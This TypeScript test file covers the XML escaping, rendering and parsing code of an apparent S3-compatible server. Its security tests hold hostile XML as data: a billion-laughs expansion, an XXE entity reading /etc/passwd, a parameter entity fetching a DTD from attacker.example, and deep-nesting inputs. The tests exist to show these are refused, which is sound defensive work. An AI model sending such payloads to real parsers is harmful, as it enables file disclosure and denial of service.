import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { escapeXml, listOf, MAX_XML_BYTES, markupProblem, MAX_XML_DEPTH, parseXml, S3_NAMESPACE, textOf, xmlDocument } from "../../../src/s3/xml.js";
import { s3ErrorOf } from "./s3ErrorOf.js";


const parse = (text: string, root = "Delete") => parseXml(Buffer.from(text, "utf8"), root);

/** The Delete document a client would send for these keys. */
const deleteDocument = (keys: string[], quiet = false) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<Delete xmlns="${S3_NAMESPACE}">${keys.map((k) => `<Object><Key>${escapeXml(k)}</Key></Object>`).join("")}${quiet ? "<Quiet>true</Quiet>" : ""}</Delete>`;

const keysOf = (doc: Record<string, unknown>) => listOf(doc, "Object").map((o) => textOf(o, "Key"));

describe("escapeXml", () => {
  it("escapes the five XML special characters and nothing else", () => {
    expect(escapeXml(`a&b<c>d"e'f`)).toBe("a&amp;b&lt;c&gt;d&quot;e&apos;f");
    expect(escapeXml("&amp;")).toBe("&amp;amp;");
    expect(escapeXml("plain/key with spaces €😀\t\n")).toBe("plain/key with spaces €😀\t\n");
    expect(escapeXml("")).toBe("");
    expect(escapeXml("]]>")).toBe("]]&gt;");
  });
});

describe("xmlDocument", () => {
  it("renders a declaration, the S3 namespace by default, nested elements and escaped text", () => {
    const doc = xmlDocument("ListBucketResult", [
      ["Name", "bkt"],
      ["Prefix", ""],
      ["MaxKeys", 1000],
      ["IsTruncated", false],
      [
        "Contents",
        [
          ["Key", "a&b<c>"],
          ["ETag", '"abc"'],
        ],
      ],
      ["Marker", undefined],
    ]);
    expect(doc).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>\n' +
        '<ListBucketResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/">' +
        "<Name>bkt</Name><Prefix></Prefix><MaxKeys>1000</MaxKeys><IsTruncated>false</IsTruncated>" +
        "<Contents><Key>a&amp;b&lt;c&gt;</Key><ETag>&quot;abc&quot;</ETag></Contents>" +
        "</ListBucketResult>",
    );
  });

  it("leaves the namespace out when given null (the Error document: S3's has none) or an empty one", () => {
    expect(xmlDocument("Error", [["Code", "NoSuchKey"]], null)).toBe('<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>NoSuchKey</Code></Error>');
    expect(xmlDocument("Error", [["Code", "NoSuchKey"]], "")).toBe('<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>NoSuchKey</Code></Error>');
  });

  it("uses the S3 namespace when none is given, and another one when asked", () => {
    expect(xmlDocument("R", [])).toBe(`<?xml version="1.0" encoding="UTF-8"?>\n<R xmlns="${S3_NAMESPACE}"></R>`);
    expect(xmlDocument("R", [], undefined)).toBe(`<?xml version="1.0" encoding="UTF-8"?>\n<R xmlns="${S3_NAMESPACE}"></R>`);
    expect(xmlDocument("R", [], "urn:x")).toBe('<?xml version="1.0" encoding="UTF-8"?>\n<R xmlns="urn:x"></R>');
  });

  it("renders an empty child list as an empty element", () => {
    expect(xmlDocument("R", [["Buckets", []]], null)).toBe('<?xml version="1.0" encoding="UTF-8"?>\n<R><Buckets></Buckets></R>');
  });

  it("produces documents that parse back to the same values", () => {
    const doc = xmlDocument("CompleteMultipartUploadResult", [
      ["Location", "http://h/b/k?x=1&y=2"],
      ["Bucket", "b"],
      ["Key", " k <&> "],
      ["ETag", '"0123-2"'],
    ]);
    const parsed = parseXml(Buffer.from(doc), "CompleteMultipartUploadResult");
    expect(textOf(parsed, "Location")).toBe("http://h/b/k?x=1&y=2");
    expect(textOf(parsed, "Key")).toBe(" k <&> ");
    expect(textOf(parsed, "ETag")).toBe('"0123-2"');
  });
});

describe("parseXml", () => {
  it("answers MalformedXML, not a stack overflow, for elements nested 10,000 deep", () => {
    const deep = `<Delete>${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}</Delete>`;
    const err = s3ErrorOf(() => parse(deep));
    expect(err.code).toBe("MalformedXML");
    expect(err.message).toContain(`deeper than ${MAX_XML_DEPTH} levels`);
    // The limit is far above what S3's documents nest.
    const atLimit = `<Delete>${"<a>".repeat(MAX_XML_DEPTH - 1)}${"</a>".repeat(MAX_XML_DEPTH - 1)}</Delete>`;
    expect(() => parse(atLimit)).not.toThrow();
  });

  it("measures nesting as elements, not as comments, CDATA, the declaration or self-closing tags", () => {
    const deeper = (text: string, limit: number) => markupProblem(text, limit)?.includes("deeper") ?? false;
    const noise = `<?xml version="1.0"?><!-- ${"<a>".repeat(100)} --><![CDATA[${"<b>".repeat(100)}]]>${"<c/>".repeat(100)}`;
    expect(markupProblem(`${noise}<Delete><Object><Key>k</Key></Object></Delete>`, 3)).toBeUndefined();
    expect(deeper("<a><b><c><d></d></c></b></a>", 3)).toBe(true);
    // Agrees with a counting oracle on random well-formed nestings.
    fc.assert(
      fc.property(fc.array(fc.boolean(), { maxLength: 200 }), fc.integer({ min: 1, max: 20 }), (opens, limit) => {
        let xml = "";
        let depth = 0;
        let deepest = 0;
        for (const open of opens) {
          if (open) {
            xml += "<e>";
            deepest = Math.max(deepest, ++depth);
          } else if (depth > 0) {
            xml += "</e>";
            depth--;
          } else xml += "<s/>";
        }
        xml += "</e>".repeat(depth);
        return deeper(xml, limit) === deepest > limit;
      }),
    );
  });

  it("counts a start tag whose quoted attribute holds '>' or '/>' (the library threw on 10,000 of those: a 500)", () => {
    for (const tag of ['<a x="/>">', "<a x='>'>", `<a x="'" y='">'>`]) {
      const hostile = `<Delete>${tag.repeat(10_000)}${"</a>".repeat(10_000)}</Delete>`;
      expect(s3ErrorOf(() => parse(hostile)).code, tag).toBe("MalformedXML");
    }
    expect(markupProblem('<a x="/>"><b></b></a>', 1)).toContain("deeper than 1 levels");
  });

  it("refuses processing instructions anywhere but the leading declaration: they would change what an element says", () => {
    const body = "<Object><Key>a</Key></Object>";
    for (const hostile of [
      `<?xml-stylesheet type="text/xsl" href="x.xsl"?><Delete>${body}</Delete>`,
      `<Delete><?foo?>${body}</Delete>`,
      `<Delete><Quiet><?x?>true</Quiet>${body}</Delete>`,
      `<Delete><Object><Key>a</Key><VersionId><?x?></VersionId></Object></Delete>`,
      `<Delete>${body}<?xml version="1.0"?></Delete>`,
      `<Delete>${body}</Delete><?x?>`,
      `<Delete><?Object?>${body}</Delete>`,
    ]) {
      const err = s3ErrorOf(() => parse(hostile));
      expect(err.code, hostile).toBe("MalformedXML");
    }
    expect(s3ErrorOf(() => parse(`<Delete><?foo?>${body}</Delete>`)).message).toContain("processing instruction");
    // The declaration (first, or after a byte-order mark), and "<?" inside CDATA, a comment or an attribute are fine.
    for (const fine of [`<?xml version="1.0"?><Delete>${body}</Delete>`, `\uFEFF<?xml version="1.0"?>\n<Delete>${body}</Delete>`]) {
      expect(keysOf(parse(fine)), fine).toEqual(["a"]);
    }
    expect(keysOf(parse("<Delete><Object><Key><![CDATA[<?x?>]]></Key></Object><!-- <?y?> --></Delete>"))).toEqual(["<?x?>"]);
    expect(markupProblem('<a x="<?y?>"></a>', 5)).toBeUndefined();
  });

  it("parses a Delete document: repeated Object elements as a list, even a single one", () => {
    const doc = parse(deleteDocument(["a", "b/c"], true));
    expect(keysOf(doc)).toEqual(["a", "b/c"]);
    expect(textOf(doc, "Quiet")).toBe("true");
    expect(keysOf(parse(deleteDocument(["only"])))).toEqual(["only"]);
  });

  it("parses a CompleteMultipartUpload document with Part always a list", () => {
    const doc = parse('<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>"abc"</ETag></Part></CompleteMultipartUpload>', "CompleteMultipartUpload");
    const parts = listOf(doc, "Part");
    expect(parts).toHaveLength(1);
    expect(textOf(parts[0], "PartNumber")).toBe("1");
    expect(textOf(parts[0], "ETag")).toBe('"abc"');
  });

  it("keeps values as strings (no number or boolean guessing): keys like 1e3, 007 and true survive", () => {
    expect(keysOf(parse(deleteDocument(["1e3", "007", "true", "0x10", "-0"])))).toEqual(["1e3", "007", "true", "0x10", "-0"]);
  });

  it("keeps leading and trailing spaces (and whitespace-only keys)", () => {
    expect(keysOf(parse(deleteDocument([" a ", "  ", "\tb\t", " "])))).toEqual([" a ", "  ", "\tb\t", " "]);
  });

  it("decodes &amp; once (no double decoding) and the other predefined entities", () => {
    const doc = parse("<Delete><Object><Key>a&amp;b</Key></Object><Object><Key>&amp;lt;</Key></Object><Object><Key>&lt;&gt;&quot;&apos;</Key></Object><Object><Key>a&amp;nbsp;b</Key></Object></Delete>");
    expect(keysOf(doc)).toEqual(["a&b", "&lt;", `<>"'`, "a&nbsp;b"]);
  });

  it("decodes decimal and hexadecimal character references, astral ones included", () => {
    expect(keysOf(parse("<Delete><Object><Key>&#65;&#x42;&#x63;&#128512;&#x20AC;</Key></Object></Delete>"))).toEqual(["ABc😀€"]);
  });

  it("reads CDATA sections and skips comments", () => {
    expect(keysOf(parse("<Delete><Object><Key>a<![CDATA[<b>&amp;]]>c</Key></Object><!-- note --></Delete>"))).toEqual(["a<b>&amp;c"]);
  });

  it("accepts a declaration, a namespace, prefixed names and a byte-order mark", () => {
    expect(keysOf(parse(`\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<Delete xmlns="${S3_NAMESPACE}">\n  <Object>\n    <Key>k</Key>\n  </Object>\n</Delete>\n`))).toEqual(["k"]);
    expect(keysOf(parse(`<s3:Delete xmlns:s3="${S3_NAMESPACE}"><s3:Object><s3:Key>k</s3:Key></s3:Object></s3:Delete>`))).toEqual(["k"]);
  });

  it("returns an empty object for an empty root or a root with only text", () => {
    expect(parse("<Delete/>")).toEqual({});
    expect(parse("<Delete></Delete>")).toEqual({});
    expect(parse("<Delete>text</Delete>")).toEqual({});
  });

  it("refuses DOCTYPE and ENTITY declarations before any parsing: billion laughs, external entities", () => {
    const billionLaughs = [
      '<?xml version="1.0"?>',
      "<!DOCTYPE lolz [",
      ' <!ENTITY lol "lol">',
      ' <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">',
      ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">',
      "]>",
      "<Delete><Object><Key>&lol3;</Key></Object></Delete>",
    ].join("\n");
    const external = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Delete><Object><Key>&xxe;</Key></Object></Delete>';
    const parameter = '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><Delete/>';
    const lowercase = '<!doctype Delete><Delete><Object><Key>k</Key></Object></Delete>';
    const bareEntity = '<Delete><!ENTITY x "y"><Object><Key>k</Key></Object></Delete>';
    for (const text of [billionLaughs, external, parameter, lowercase, bareEntity]) {
      const err = s3ErrorOf(() => parse(text));
      expect(err.code).toBe("MalformedXML");
      expect(err.status).toBe(400);
      expect(err.message).toBe("DOCTYPE and ENTITY declarations are not accepted");
    }
  });

  it("refuses documents that are not well-formed, saying why and where", () => {
    const cases: Array<[string, RegExp]> = [
      ["", /^the XML is not well-formed: .+ \(line 1\)$/],
      ["<Delete><Object><Key>k</Key></Object>", /^the XML is not well-formed: .+ \(line 1\)$/],
      ["<Delete>\n<Object><Key>k</Object></Key></Delete>", /^the XML is not well-formed: .+ \(line 2\)$/],
      ["<Delete><Object><Key>a & b</Key></Object></Delete>", /^the XML is not well-formed: /],
      ["<Delete><Object><Key>a < b</Key></Object></Delete>", /^the XML is not well-formed: /],
      ["not xml at all", /^the XML is not well-formed: /],
      ["<Delete><Object><Key>k</Key></Object></Delete", /^the XML is not well-formed: /],
      ['<Delete a="1" a="2"/>', /^the XML is not well-formed: /],
    ];
    for (const [text, message] of cases) {
      const err = s3ErrorOf(() => parse(text));
      expect(err.code).toBe("MalformedXML");
      expect(err.message).toMatch(message);
    }
  });

  it.each([
    ["two root elements", "<Delete><Object><Key>a</Key></Object></Delete><Delete><Object><Key>b</Key></Object></Delete>"],
    ["a second, empty root element", "<Delete><Object><Key>a</Key></Object></Delete><Delete/>"],
    ["a second root element of another name", "<Delete><Object><Key>a</Key></Object></Delete><Other/>"],
    ["text after the root element", "<Delete><Object><Key>a</Key></Object></Delete>trailing"],
    ["an undefined entity", "<Delete><Object><Key>&undefined;</Key></Object></Delete>"],
    ["a reference to a character XML does not allow (&#0;)", "<Delete><Object><Key>a&#0;b</Key></Object></Delete>"],
  ])("refuses what a conforming XML parser refuses: %s", (_what, text) => {
    expect(s3ErrorOf(() => parse(text)).code).toBe("MalformedXML");
  });

  it("refuses a document whose root is not the expected element", () => {
    for (const text of ["<Other><Object><Key>k</Key></Object></Other>", "<delete><Object><Key>k</Key></Object></delete>"]) {
      const err = s3ErrorOf(() => parse(text));
      expect(err.code).toBe("MalformedXML");
      expect(err.message).toBe("the document's root element must be <Delete>");
    }
    const err = s3ErrorOf(() => parse(deleteDocument(["k"]), "CompleteMultipartUpload"));
    expect(err.message).toBe("the document's root element must be <CompleteMultipartUpload>");
  });

  it("parses a 1000-key Delete document well under the size limit", () => {
    const keys = Array.from({ length: 1000 }, (_, i) => `backups/b-${i}/velero-backup.json`);
    const text = deleteDocument(keys);
    expect(Buffer.byteLength(text)).toBeLessThan(MAX_XML_BYTES);
    expect(keysOf(parse(text))).toEqual(keys);
  });

  it("reads back any keys of valid XML characters from a Delete document built with escapeXml (property)", () => {
    // XML 1.0 Char: #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] | [#x10000-#x10FFFF]. CR (#xD) has its own
    // test below: it needs a character reference, and a failure on it would hide everything else here.
    const xmlChar = fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom("&", "<", ">", '"', "'", ";", "#", "&amp;", "&lt;", "&#65;", "&nbsp;", "]]>", " ", "\t", "\n", "/", "%") },
      { weight: 4, arbitrary: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCodePoint(c)) },
      { weight: 2, arbitrary: fc.integer({ min: 0xa0, max: 0xd7ff }).map((c) => String.fromCodePoint(c)) },
      { weight: 1, arbitrary: fc.integer({ min: 0xe000, max: 0xfffd }).map((c) => String.fromCodePoint(c)) },
      { weight: 1, arbitrary: fc.integer({ min: 0x10000, max: 0x10ffff }).map((c) => String.fromCodePoint(c)) },
    );
    const key = fc.string({ unit: xmlChar, minLength: 1, maxLength: 30 });
    fc.assert(
      fc.property(fc.array(key, { minLength: 1, maxLength: 10 }), (keys) => {
        expect(keysOf(parse(deleteDocument(keys)))).toEqual(keys);
      }),
      { numRuns: 1000 },
    );
  });

  it("reads back a key containing a carriage return from a document built with escapeXml", () => {
    // XML parsers turn a literal CR (and CRLF) into LF; only an escaped CR survives.
    expect(keysOf(parse(deleteDocument(["a\rb", "c\r\nd"])))).toEqual(["a\rb", "c\r\nd"]);
  });
});

describe("textOf and listOf", () => {
  it("textOf gives text of strings, numbers and booleans and undefined otherwise", () => {
    expect(textOf({ A: "x" }, "A")).toBe("x");
    expect(textOf({ A: "" }, "A")).toBe("");
    expect(textOf({ A: 3 }, "A")).toBe("3");
    expect(textOf({ A: false }, "A")).toBe("false");
    expect(textOf({ A: { B: "x" } }, "A")).toBeUndefined();
    expect(textOf({ A: ["x", "y"] }, "A")).toBeUndefined();
    expect(textOf({}, "A")).toBeUndefined();
    expect(textOf(null, "A")).toBeUndefined();
    expect(textOf("A", "A")).toBeUndefined();
  });

  it("listOf always gives an array", () => {
    expect(listOf({}, "A")).toEqual([]);
    expect(listOf({ A: "x" }, "A")).toEqual(["x"]);
    expect(listOf({ A: ["x", "y"] }, "A")).toEqual(["x", "y"]);
    expect(listOf({ A: { B: "1" } }, "A")).toEqual([{ B: "1" }]);
  });
});
